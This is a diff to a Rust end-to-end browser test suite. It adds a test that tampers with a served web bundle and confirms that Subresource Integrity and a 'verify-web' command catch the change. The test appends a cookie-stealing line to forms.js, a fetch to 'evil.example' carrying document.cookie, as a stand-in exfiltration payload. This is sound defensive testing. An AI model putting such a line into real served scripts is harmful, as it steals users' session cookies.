@@ -53,7 +53,7 @@ fn sign_in(b: &mut Browser, email: &str, password: &str) {
 }
 
 async fn web_client_in_chromium(engine: Engine) {
-    let web = repo().join("web");
+    let web = repo().join("web/dist");
     let server = Server::start_with(engine, BIN, &[("KLUIS_WEB_DIR", web.to_str().unwrap())]);
     let practice = Practice::set_up(&server).await;
     let org = practice.org.clone();
@@ -381,7 +381,7 @@ async fn web_client_in_chromium(engine: Engine) {
 /// point); it runs on one engine only: the lock is the page's.
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn idle_lock_in_chromium() {
-    let web = repo().join("web");
+    let web = repo().join("web/dist");
     let server = Server::start_with(
         Engine::Sqlite,
         BIN,
@@ -474,4 +474,93 @@ async fn idle_lock_in_chromium() {
     sign_in(&mut b, "carla@p.nl", PASSWORD);
     b.step("waitForText", json!([".messages", "Eerste bericht"]));
     no_problems(&mut b, "the idle lock");
+}
+
+fn copy_dir(from: &std::path::Path, to: &std::path::Path) {
+    std::fs::create_dir_all(to).unwrap();
+    for e in std::fs::read_dir(from).unwrap() {
+        let e = e.unwrap();
+        let target = to.join(e.file_name());
+        if e.file_type().unwrap().is_dir() {
+            copy_dir(&e.path(), &target);
+        } else {
+            std::fs::copy(e.path(), &target).unwrap();
+        }
+    }
+}
+
+/// A server that alters the web client it serves — one script, or the
+/// WebAssembly — gets a refusal from the browser (Subresource Integrity
+/// in the page it serves), and `kluis verify-web` names the altered file
+/// against the manifest built from source (exit 7), while the genuine
+/// bundle passes. (A server that alters index.html itself, hashes and
+/// all, is caught by verify-web only: THREAT_MODEL.md says so.)
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_tampered_bundle_is_refused() {
+    let dist = repo().join("web/dist");
+    let genuine = Server::start_with(
+        Engine::Sqlite,
+        BIN,
+        &[("KLUIS_WEB_DIR", dist.to_str().unwrap())],
+    );
+    let altered_js = kluis_test_support::temp_dir();
+    copy_dir(&dist, altered_js.path());
+    let forms = altered_js.path().join("js/forms.js");
+    let mut text = std::fs::read_to_string(&forms).unwrap();
+    text.push_str("\nfetch('https://evil.example/?' + document.cookie);\n");
+    std::fs::write(&forms, text).unwrap();
+    let altered_wasm = kluis_test_support::temp_dir();
+    copy_dir(&dist, altered_wasm.path());
+    let wasm = altered_wasm.path().join("pkg/kluis_sdk_bg.wasm");
+    let mut bytes = std::fs::read(&wasm).unwrap();
+    let last = bytes.len() - 1;
+    bytes[last] ^= 1;
+    std::fs::write(&wasm, bytes).unwrap();
+    let js_server = Server::start_with(
+        Engine::Sqlite,
+        BIN,
+        &[("KLUIS_WEB_DIR", altered_js.path().to_str().unwrap())],
+    );
+    let wasm_server = Server::start_with(
+        Engine::Sqlite,
+        BIN,
+        &[("KLUIS_WEB_DIR", altered_wasm.path().to_str().unwrap())],
+    );
+
+    let mut b = Browser::open(&genuine.base);
+    let ok = b.step("load", json!([format!("{}/", genuine.base), 30000]));
+    assert_eq!(ok["came_up"], true, "{ok}");
+    let refused = b.step("load", json!([format!("{}/", js_server.base), 5000]));
+    assert_eq!(refused["came_up"], false, "{refused}");
+    assert!(
+        refused["problems"].to_string().contains("integrity"),
+        "the browser says why: {refused}"
+    );
+    let refused = b.step("load", json!([format!("{}/", wasm_server.base), 30000]));
+    assert_eq!(refused["came_up"], false, "{refused}");
+    assert!(
+        refused.to_string().contains("integrity"),
+        "the wasm is refused for its digest: {refused}"
+    );
+
+    let manifest = dist.join("bundle-manifest.json");
+    let verify = |base: &str| {
+        std::process::Command::new(env!("CARGO_BIN_EXE_kluis-cli-e2e"))
+            .args(["verify-web", base, "--manifest", manifest.to_str().unwrap()])
+            .output()
+            .unwrap()
+    };
+    let out = verify(&genuine.base);
+    let said = String::from_utf8_lossy(&out.stdout);
+    assert_eq!(out.status.code(), Some(0), "{said}");
+    assert!(said.contains("is the bundle built from source"), "{said}");
+    for (server, file) in [
+        (&js_server, "js/forms.js"),
+        (&wasm_server, "pkg/kluis_sdk_bg.wasm"),
+    ] {
+        let out = verify(&server.base);
+        let said = String::from_utf8_lossy(&out.stderr);
+        assert_eq!(out.status.code(), Some(7), "{said}");
+        assert!(said.contains(file), "{said}");
+    }
 }
